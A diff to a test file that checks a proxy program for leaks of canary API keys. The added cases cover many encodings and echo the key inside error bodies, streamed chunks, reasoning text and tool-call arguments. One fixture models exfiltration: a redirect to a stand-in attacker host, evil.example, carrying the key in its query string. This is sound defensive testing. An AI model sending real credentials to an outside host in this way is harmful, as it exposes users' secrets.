@@ -2,23 +2,24 @@ import { expect, test } from "bun:test";
 import { readdirSync, readFileSync, statSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { encodings } from "../secrets/encodings.ts";
 import { chunk, chunksOf, completionOf } from "../support/chunks.ts";
 import { json, type Reply, sse, whole } from "../support/reply.ts";
 import { hello } from "../support/start-pair.ts";
 import { type RunningProgram, startProgram } from "../support/start-program.ts";
 import { startUpstream } from "../support/upstream.ts";
 
-const upstreamKey = 'sk-or-canary"1f3870be274f6c49b3e31a0c';
+/** None of them looks like a key, but for the last: those are masked by their looks. */
+const upstreamKey = 'zz/canary+"1f3870be274f6c49b3e31a0c=';
 const clientKey = "canary-of-the-client-8b1a9953c4611296";
 const otherClientKey = "canary-sent-beside-it-e4da3b7fbbce2345";
 const keyInBaseUrl = "canary-in-the-query-a87ff679a2f3e71d";
 const promptKey = "sk-ant-api03-canaryInAPrompt0123456789abcdef";
 
-/** Every way in which a key could be written. */
+/** Every way in which a key could be written, also without its first three characters. */
 function formsOf(key: string): string[] {
-  const json = JSON.stringify(key).slice(1, -1);
-  const plain = [key, json, encodeURIComponent(key), JSON.stringify(json).slice(1, -1)];
-  return [...plain, btoa(key).replace(/=+$/, ""), key.slice(0, 12), key.slice(-12)];
+  const parts = [key, key.slice(3), key.slice(0, 12), key.slice(-12)];
+  return parts.flatMap((part) => encodings.map(([, encode]) => encode(part).replace(/=+$/, "")));
 }
 
 function hasForm(text: string, key: string): string[] {
@@ -31,7 +32,9 @@ function readFolder(folder: string): string {
   return paths.flatMap((path) => (statSync(path).isFile() ? [readFileSync(path, "latin1")] : [])).join("\n");
 }
 
+const escaped = JSON.stringify(upstreamKey).replaceAll("/", "\\/").replaceAll("+", "\\u002b");
 const echo = `Bearer ${upstreamKey} and ${JSON.stringify(upstreamKey)}`;
+const call = { id: "call_1", name: "Read", arguments: { path: echo } };
 const replies: readonly Reply[] = [
   json(completionOf({ text: "fine" })),
   sse(chunksOf({ text: "fine" })),
@@ -45,6 +48,11 @@ const replies: readonly Reply[] = [
   sse([chunk({ content: "a" }), { error: { message: echo } }]),
   sse([chunk({ content: "a" }), `data: nonsense ${echo}\n\n`]),
   sse([chunk({ content: "a" })], { done: false, end: "reset" }),
+  whole(`{"error":{"message":${escaped}}}`, { status: 400 }),
+  sse([`data: {"error":{"message":${escaped}}}\n\n`]),
+  whole(`{"error":{"message":${JSON.stringify(`{"key":${escaped}}`)}}}`, { status: 401 }),
+  sse(chunksOf({ text: `it is ${upstreamKey}`, reasoning: echo, toolCalls: [call] }, 5)),
+  json(completionOf({ text: `it is ${upstreamKey}`, reasoning: echo, toolCalls: [call] })),
   whole("", {
     status: 302,
     headers: { location: `https://evil.example/?key=${encodeURIComponent(upstreamKey)}` },
